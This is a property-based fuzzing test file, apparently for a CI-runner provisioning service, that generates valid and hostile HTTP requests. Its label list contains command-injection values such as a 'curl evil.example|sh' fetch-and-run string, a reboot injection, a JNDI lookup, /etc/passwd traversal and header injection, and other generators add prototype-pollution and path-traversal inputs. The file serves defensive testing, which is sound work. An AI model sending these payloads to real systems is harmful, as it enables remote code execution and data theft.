import fc from 'fast-check';
import type { HttpRequest } from '../../local/wire/http-exchange.ts';

/** Runs that a test has GitHub know. */
export const activeRuns = [1001, 1002, 1003, 1004] as const;

/** Labels: right ones, and what somebody might try in the place of one. */
const hostileLabels = [
  'rr_runner_$(id)',
  'rr_runner_`id`',
  "rr_runner_'; reboot; '",
  'rr_runner_"||curl evil.example|sh||"',
  'rr_runner_a\nRUNNER_NAME=x',
  'rr_runner_a\r\nx-evil: 1',
  'rr_runner_../../etc/passwd',
  'rr_runner_%2e%2e%2f',
  'rr_runner_\u0000',
  'rr_runner_\u202e',
  'rr_runner_а',
  'rr_runner_ﬁ',
  'rr_runner_$' + '{jndi:ldap://x}',
  'rr_runner_{{7*7}}',
  'rr_runner_*',
  'rr_runner_a b',
  ' rr_runner_a',
  'rr_runner_a ',
  'RR_RUNNER_a',
  'self-hosted',
  'rr_runner_',
  'rr_runner_\ud800',
  '__proto__',
  'constructor',
  'x'.repeat(5_000),
  `rr_runner_${'a'.repeat(33)}`,
];

const labelLetters = fc.stringMatching(/^[A-Za-z0-9_-]{1,32}$/);
const goodLabel = labelLetters.map((letters) => `rr_runner_${letters}`);
const runLabel = fc
  .tuple(
    fc.constantFrom('1001', '1002', '01001', '9999'),
    fc.constantFrom('1', '2', '01'),
    fc.option(labelLetters),
  )
  .map(([run, attempt, rest]) => `rr_runner_${run}_${attempt}${rest === null ? '' : `_${rest}`}`);

const label = fc.oneof(
  { weight: 3, arbitrary: goodLabel },
  { weight: 2, arbitrary: runLabel },
  { weight: 3, arbitrary: fc.constantFrom(...hostileLabels) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }).map((text) => `rr_runner_${text}`) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
);

const anything = fc.anything({
  withNullPrototype: false,
  withBigInt: false,
  withDate: false,
  maxDepth: 3,
  key: fc.oneof(
    fc.string({ maxLength: 12 }),
    fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString'),
  ),
});

const architectures = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom<unknown>(['x86_64'], ['arm64'], ['x86_64', 'arm64']) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      [],
      ['x86_64', 'x86_64'],
      ['X86_64'],
      'x86_64',
      [['x86_64']],
      null,
      {},
    ),
  },
  { weight: 1, arbitrary: anything },
);

const run = fc.oneof(
  fc.constant({ repository: 'rr-debugger/rr', run_id: 1001 }),
  fc.record({
    repository: fc.oneof(
      fc.constantFrom<unknown>(
        'rr-debugger/rr',
        'RR-Debugger/rr',
        'evil/rr',
        'rr-debugger/..',
        'a/b/c',
        '../../user',
        '',
      ),
      anything,
    ),
    run_id: fc.oneof(
      fc.constantFrom<unknown>(1001, '1001', 1001.5, -1, 0, Number.MAX_VALUE, 2 ** 53, null),
      anything,
    ),
  }),
);

const unlikely = fc
  .tuple(label, architectures, fc.option(run))
  .map(([of, which, by]) => ({ operation: 'create', label: of, architectures: which, ...(by ?? {}) }));

/** What a run of those that GitHub knows would ask for. */
const asRun = fc
  .tuple(
    fc.constantFrom(...activeRuns),
    fc.constantFrom('', '_a', '_b', '_c'),
    fc.constantFrom(['x86_64'], ['arm64']),
  )
  .map(([runId, suffix, which]) => ({
    operation: 'create',
    label: `rr_runner_${runId}_1${suffix}`,
    architectures: which,
    repository: 'rr-debugger/rr',
    run_id: runId,
  }));

const create: fc.Arbitrary<object> = fc.oneof(
  { weight: 4, arbitrary: unlikely },
  { weight: 1, arbitrary: asRun },
);

const destroy = fc.oneof(
  label.map((of) => ({ operation: 'destroy', label: of })),
  fc.array(fc.oneof(label, anything), { maxLength: 14 }).map((labels) => ({ operation: 'destroy', labels })),
);

const meant: fc.Arbitrary<object> = fc.oneof(
  { weight: 3, arbitrary: create },
  { weight: 1, arbitrary: destroy },
);

const spoilt = fc
  .tuple(meant, fc.string({ maxLength: 12 }), anything)
  .map(([body, key, value]) => ({ ...body, [key]: value }));

const polluting = fc
  .tuple(
    meant,
    fc.constantFrom('__proto__', 'constructor', 'prototype'),
    fc.constantFrom('{"polluted":true}', '{"prototype":{"polluted":true}}', 'null', '[]'),
  )
  .map(([body, key, value]) => `{"${key}":${value},${JSON.stringify(body).slice(1)}`);

const repeated = fc
  .tuple(meant, fc.constantFrom('label', 'operation', 'architectures', '\\u006cabel'), label)
  .map(([body, key, value]) => `{"${key}":${JSON.stringify(value)},${JSON.stringify(body).slice(1)}`);

const deep = fc
  .tuple(fc.constantFrom('[', '{"a":', '{"label":['), fc.integer({ min: 1, max: 6_000 }))
  .map(([open, times]) => open.repeat(times));

/** Bodies as text. */
const bodyText = fc.oneof(
  { weight: 8, arbitrary: meant.map((body) => JSON.stringify(body)) },
  { weight: 3, arbitrary: spoilt.map((body) => JSON.stringify(body) ?? '') },
  { weight: 2, arbitrary: polluting },
  { weight: 2, arbitrary: repeated },
  { weight: 1, arbitrary: deep },
  { weight: 1, arbitrary: fc.json() },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 300 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '',
      ' ',
      'null',
      '[]',
      '"x"',
      '{}',
      '{"operation":"create"',
      "{'a':1}",
      '{"a":NaN}',
      '\ufeff{}',
      '1e400',
    ),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 10_000, max: 200_000 }).map((length) => `{"label":"${'a'.repeat(length)}"}`),
  },
);

/** The same text in some encoding, and now and then none. */
const body = fc.oneof(
  { weight: 12, arbitrary: bodyText.map((text) => Buffer.from(text, 'utf8')) },
  { weight: 1, arbitrary: bodyText.map((text) => Buffer.from(text, 'utf16le')) },
  { weight: 1, arbitrary: bodyText.map((text) => Buffer.from(text, 'latin1')) },
  { weight: 1, arbitrary: bodyText.map((text) => Buffer.from(Buffer.from(text).toString('base64'))) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)) },
);

const contentType = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.constantFrom('application/json', 'application/json; charset=utf-8', 'Application/JSON'),
  },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-16',
      'application/json;charset=utf-7',
      'application/json;;;',
      'application/problem+json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'text/plain',
      'text/html',
      'application/octet-stream',
      'application/xml',
      '',
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 200 }) },
);

const headerName = fc.oneof(
  fc.constantFrom(
    'x-forwarded-host',
    'x-forwarded-proto',
    'x-forwarded-for',
    'x-http-method-override',
    'content-encoding',
    'transfer-encoding',
    'expect',
    'cookie',
    'origin',
    'authorization',
    'x-amz-date',
    '__proto__',
    'constructor',
  ),
  fc.stringMatching(/^[a-z][a-z0-9-]{0,20}$/),
);

const headers = fc
  .tuple(
    fc.option(contentType),
    fc.dictionary(headerName, fc.string({ unit: 'grapheme-ascii', maxLength: 100 }), { maxKeys: 4 }),
    fc.constantFrom(
      'stint.example',
      'stint.example:443',
      'evil.example',
      '127.0.0.1',
      '[::1]:80',
      '"><script>',
      'a b',
      '',
    ),
  )
  .map(([type, others, host]) => ({ ...others, host, ...(type === null ? {} : { 'content-type': type }) }));

const method = fc.oneof(
  { weight: 8, arbitrary: fc.constant('POST') },
  { weight: 4, arbitrary: fc.constant('GET') },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      'PUT',
      'PATCH',
      'DELETE',
      'HEAD',
      'OPTIONS',
      'TRACE',
      'CONNECT',
      'post',
      'PROPFIND',
    ),
  },
);

const pathLabel = label.map((text) => {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
});

const path = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom('/', '/runners') },
  { weight: 1, arbitrary: fc.constantFrom(...activeRuns).map((runId) => `/runners/rr_runner_${runId}_1`) },
  { weight: 1, arbitrary: fc.constant('/openapi.json') },
  { weight: 5, arbitrary: pathLabel.map((of) => `/runners/${of}`) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '//',
      '//runners',
      '/runners/',
      '/Runners',
      '/./runners',
      '/../runners',
      '/%2e%2e/runners',
      '/runners/%2e%2e',
      '/runners/..%2f..%2f_local%2fstate',
      '/%72unners',
      '/runners%2f',
      '/runners;x=1',
      '/runners/%',
      '/runners/%zz',
      '/runners/%00',
      '/runners/%ff%fe',
      '/runners/a%3fb',
      '/runners/a%23b',
      '/runners?__proto__=1&constructor=2',
      '/runners/rr_runner_a?label=rr_runner_b&label=c',
      '/$default',
      '/{label}',
      '/runners/{label}',
      '/_local/state',
      '/_local/runs',
      '/github/orgs/rr-debugger/actions/runners',
      '/.well-known/security.txt',
      'http://evil.example/runners',
      '*',
      '',
    ),
  },
  { weight: 1, arbitrary: fc.webPath() },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 9_000 }).map((length) => `/${'a/'.repeat(length)}`) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 60 }).map((text) => `/${text}`) },
);

/** Requests such as anybody can send, from the right ones to the absurd. */
export const generatedRequest: fc.Arbitrary<HttpRequest> = fc.record({
  method,
  path,
  headers,
  body,
  sourceIp: fc.ipV4(),
});
